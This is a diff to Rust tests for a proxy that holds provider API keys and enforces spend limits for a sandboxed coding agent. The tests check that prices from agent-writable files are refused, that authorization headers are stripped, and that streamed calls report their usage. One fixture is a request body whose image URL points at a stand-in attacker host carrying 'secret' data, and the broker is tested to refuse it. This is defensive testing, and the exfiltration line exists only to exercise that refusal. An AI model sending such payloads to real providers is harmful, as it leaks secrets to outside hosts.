@@ -106,6 +106,11 @@ async fn broker(upstream: SocketAddr, limit: SpendLimit) -> Broker {
         {"input": 3, "output": 15, "cache_read": 0.3, "cache_write": 3.75}}}}}}),
         super::prices::Source::User,
     );
+    // A price only the project's files give (the agent's to write).
+    prices.add_config(
+        &serde_json::json!({"provider": {"anthropic": {"models": {"claude-agent": {"cost": {"input": 0.000001, "output": 0.000001}}}}}}),
+        super::prices::Source::Agent,
+    );
     let cfg = Arc::new(server::Config {
         upstreams,
         token: "PLACEHOLDER".into(),
@@ -176,7 +181,8 @@ async fn the_real_key_goes_upstream_and_the_reply_comes_back_unchanged() {
     assert_eq!(headers["anthropic-version"], "2023-06-01", "the provider's own headers pass");
     assert_eq!(headers["host"], up.to_string());
     assert!(!headers.contains_key("authorization"));
-    assert_eq!(String::from_utf8_lossy(sent), ASK);
+    let sent: serde_json::Value = serde_json::from_slice(sent).unwrap();
+    assert_eq!(sent, serde_json::from_str::<serde_json::Value>(ASK).unwrap(), "the body as judged");
     let lines = ledger_lines(&b);
     assert_eq!(lines.len(), 1);
     let e = &lines[0];
@@ -242,8 +248,22 @@ async fn a_model_without_a_price_is_refused_while_a_limit_is_set() {
     let b = broker(up, SpendLimit { day: Some(10.0), session: None }).await;
     let (status, body) =
         ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &ASK.replace("claude-x", "claude-free")).await;
-    assert!(status == 403 && body.contains("no price is known for anthropic/claude-free"), "{body}");
+    assert!(
+        status == 403 && body.contains("no price is known") && body.contains("anthropic/claude-free"),
+        "{body}"
+    );
+    let (status, body) =
+        ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &ASK.replace("claude-x", "claude-agent")).await;
+    assert!(status == 403 && body.contains("only files the agent can write"), "{body}");
     assert!(seen.lock().unwrap().is_empty());
+    // Without a limit the agent's price is used (nothing to protect), and the call goes.
+    let b = broker(up, SpendLimit::default()).await;
+    assert_eq!(
+        ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &ASK.replace("claude-x", "claude-agent"))
+            .await
+            .0,
+        200
+    );
 }
 
 #[tokio::test]
@@ -334,7 +354,10 @@ async fn calls_under_way_count_against_the_cap() {
         let (b, big) = (b.clone(), big.clone());
         tokio::spawn(async move { ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &big).await })
     };
-    tokio::time::sleep(Duration::from_millis(100)).await;
+    // The first is under way once the provider has it.
+    while _seen.lock().unwrap().is_empty() {
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
     let (status, body) = ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &big).await;
     assert!(
         status == 402 && body.contains("per run"),
@@ -353,8 +376,9 @@ async fn a_reply_without_usage_costs_its_reservation() {
     let b = broker(up, SpendLimit::default()).await;
     assert_eq!(ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK).await.0, 200);
     let e = &ledger_lines(&b)[0];
-    // 10 output tokens at $15 a million and the body's bytes / 4 at $3.
-    let want = (ASK.len() as f64 / 4.0).floor() * 3.0 / 1e6 + 10.0 * 15.0 / 1e6;
+    // The reservation: every body byte an input token at $3 a million, 10 output tokens at $15.
+    let sent = serde_json::to_vec(&serde_json::from_str::<serde_json::Value>(ASK).unwrap()).unwrap();
+    let want = sent.len() as f64 * 3.0 / 1e6 + 10.0 * 15.0 / 1e6;
     assert!((e.cost.unwrap() - want).abs() < 1e-12, "{:?} vs {want}", e.cost);
 }
 
@@ -431,4 +455,41 @@ fn a_literal_key_in_a_config_the_sandbox_reads_is_refused() {
         e.contains("opencode.jsonc: `provider.anthropic.options.apiKey` looks like a model-provider key"),
         "{e}"
     );
+}
+
+#[tokio::test]
+async fn a_streamed_chat_completion_is_asked_for_its_usage() {
+    let (up, seen) = provider(Duration::ZERO).await;
+    let b = broker(up, SpendLimit::default()).await;
+    let chat = r#"{"model":"claude-x","stream":true,"messages":[{"role":"user","content":"hi"}]}"#;
+    // The client's own bearer placeholder goes no further than the broker either.
+    let (status, body) = ask_with(
+        &b,
+        "POST",
+        "/anthropic/chat/completions",
+        "PLACEHOLDER",
+        chat,
+        &[("authorization", "Bearer PLACEHOLDER")],
+    )
+    .await;
+    assert_eq!(status, 200, "the rewritten body arrives whole: {body}");
+    let seen = seen.lock().unwrap();
+    let (_, path, headers, sent) = &seen[0];
+    assert_eq!(path, "/v1/chat/completions");
+    assert!(!headers.contains_key("authorization"), "{headers:?}");
+    assert_eq!(headers["content-length"], sent.len().to_string());
+    let v: serde_json::Value = serde_json::from_slice(sent).unwrap();
+    assert_eq!(v["stream_options"]["include_usage"], true);
+}
+
+#[tokio::test]
+async fn a_body_that_makes_the_provider_fetch_is_refused_even_to_count_tokens() {
+    let (up, seen) = provider(Duration::ZERO).await;
+    let b = broker(up, SpendLimit::default()).await;
+    let fetch = r#"{"model":"claude-x","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?d=secret"}}]}]}"#;
+    for path in ["/anthropic/messages", "/anthropic/messages/count_tokens"] {
+        let (status, body) = ask(&b, "POST", path, "PLACEHOLDER", fetch).await;
+        assert!(status == 403 && body.contains("fetch"), "{path}: {body}");
+    }
+    assert!(seen.lock().unwrap().is_empty());
 }
